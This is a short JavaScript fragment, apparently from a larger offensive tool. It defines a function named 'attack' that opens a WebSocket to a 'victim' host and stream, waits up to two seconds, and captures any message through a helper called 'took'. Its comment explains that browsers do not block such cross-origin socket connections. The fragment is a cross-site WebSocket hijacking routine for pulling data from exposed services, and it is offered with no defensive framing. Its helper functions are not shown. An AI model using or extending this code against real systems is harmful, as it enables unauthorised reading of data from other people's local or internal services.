// A socket is not asked about by the browser: only the server can refuse it.
const attack = (victim) =>
  within(2_000, new Promise((done) => {
    const socket = new WebSocket(`ws://${victim.at}${victim.stream}`);
    socket.onmessage = ({ data }) => done(took(victim, data));
    socket.onclose = done;
  }));
